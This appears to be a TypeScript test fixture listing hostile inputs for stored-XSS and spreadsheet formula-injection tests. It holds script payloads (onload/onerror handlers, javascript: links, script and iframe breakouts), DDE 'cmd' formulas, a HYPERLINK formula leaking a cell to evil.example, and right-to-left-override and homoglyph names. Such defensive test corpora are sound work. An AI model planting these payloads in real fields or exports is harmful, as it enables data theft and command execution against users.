/**
 * Hostile input for the tests of SECURITY D6 (stored XSS) and E7 (spreadsheet formulas): names,
 * titles, headers and cells a tenant could type. Every script-like payload sets
 * `window.__xss` to its own key if it ever runs, so a browser test can say which one did.
 */

/** Payloads that would run script if a screen rendered them as HTML. */
export const SCRIPT_PAYLOADS = {
  svg: `<svg onload="window.__xss='svg'">`,
  img: `<img src=x onerror="window.__xss='img'">`,
  link: `javascript:window.__xss='link'//`,
  markdownLink: `[open](javascript:window.__xss='markdown')`,
  script: `</script><script>window.__xss='script'</script>`,
  iframe: `"><iframe srcdoc="<script>parent.__xss='iframe'</script>">`,
  template: `{{constructor.constructor('window.__xss="template"')()}}`,
} as const;

/**
 * Payloads a spreadsheet would run as a formula if an export wrote them as typed (OWASP CSV
 * injection): `=`, `+`, `-`, `@`, and a leading tab or carriage return.
 */
export const FORMULA_PAYLOADS = {
  hyperlink: `=HYPERLINK("https://evil.example/?leak="&A1,"Open")`,
  sum: `@SUM(1+9)*cmd|' /C calc'!A0`,
  plus: `+cmd|' /C calc'!A0`,
  minus: `-2+3+cmd|' /C calc'!A0`,
  tab: '\t=1+2',
  carriageReturn: '\r=3+4',
} as const;

/** Names that mislead the eye: a right-to-left override and Cyrillic look-alikes of Latin letters. */
export const DECEPTIVE_PAYLOADS = {
  // Shows as "invoice_exe.pdf" but ends in ".exe" (U+202E RIGHT-TO-LEFT OVERRIDE).
  rightToLeft: 'invoice_\u202Efdp.exe',
  // "Аdmin Тeam" with a Cyrillic А (U+0410) and Т (U+0422).
  homoglyph: '\u0410dmin \u0422eam',
} as const;

/** Every payload, keyed by a short name. */
export const XSS_CORPUS = {
  ...SCRIPT_PAYLOADS,
  ...FORMULA_PAYLOADS,
  ...DECEPTIVE_PAYLOADS,
} as const;

export type XssPayloadKey = keyof typeof XSS_CORPUS;

/** The first character of a cell that a spreadsheet reads as the start of a formula (OWASP). */
export const FORMULA_TRIGGERS = ['=', '+', '-', '@', '\t', '\r'] as const;
